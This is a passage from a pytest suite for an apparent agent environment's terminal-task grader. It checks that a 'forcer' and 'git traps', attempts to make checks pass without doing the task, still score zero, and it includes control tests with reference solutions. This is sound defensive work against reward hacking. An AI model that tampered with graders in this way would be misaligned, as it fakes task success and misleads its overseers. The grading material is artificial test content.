    if os.environ.get("OPENENV_TEST_CONTAINERS") != "1":
        pytest.skip("container tests are off (set OPENENV_TEST_CONTAINERS=1 with a container engine)")
    from openenv_sdk.build import build_image

    with GenericEnvClient(image=build_image(ENV_DIR, output="quiet")) as owner:
        if owner.base_url is None:
            owner.connect()
        yield owner


@pytest.mark.timeout(1200)
def test_the_forcer_scores_zero_in_the_image_too(image_client: GenericEnvClient) -> None:
    """The same attacks against the image: as the program three checks run, and through the git traps."""
    with client_of(image_client) as client:
        for task_id in ("greet_script", "stats_py", "fix_fibonacci"):
            path, _, daemon_files = PROGRAM_TASKS[task_id]
            client.reset(task_id=task_id)
            _install_forcer(client, path, daemon_files)
            score = grade(terminal_grader.TerminalGrader(), client)
            assert score.value == 0.0, score.evidence
            _assert_check_ran_to_its_end_and_failed(score.evidence["check_passes"])
        client.reset(task_id="git_merge_conflict")
        client.call_tool("write_file", path=".forcer.py", content=FORCER)
        bash(client, f"REPO=repo FORCER=$PWD/.forcer.py bash -c {shlex.quote(GIT_TRAPS)} && rm .forcer.py")
        score = grade(terminal_grader.TerminalGrader(), client)
        assert score.value == 0.0, score.evidence
        _assert_check_ran_to_its_end_and_failed(score.evidence["check_passes"])


# --- controls -----------------------------------------------------------------------------------


def test_control_a_reference_solution_scores_one(served: Served) -> None:
    """Control: `hidden/<task>/solution.sh`, replayed through the bash tool, scores 1.0."""
    with served.client() as client:
        for task_id in ("git_merge_conflict", "set_permissions"):
            outcome = play(client, task_id, "solution")
            assert outcome.score == 1.0 and not outcome.tool_errors, outcome


def test_control_doing_nothing_scores_zero(served: Served) -> None:
    """Control: an episode in which the agent does nothing scores 0.0."""
    with served.client() as client:
        client.reset(task_id="git_merge_conflict")
        assert grade(terminal_grader.TerminalGrader(), client).value == 0.0
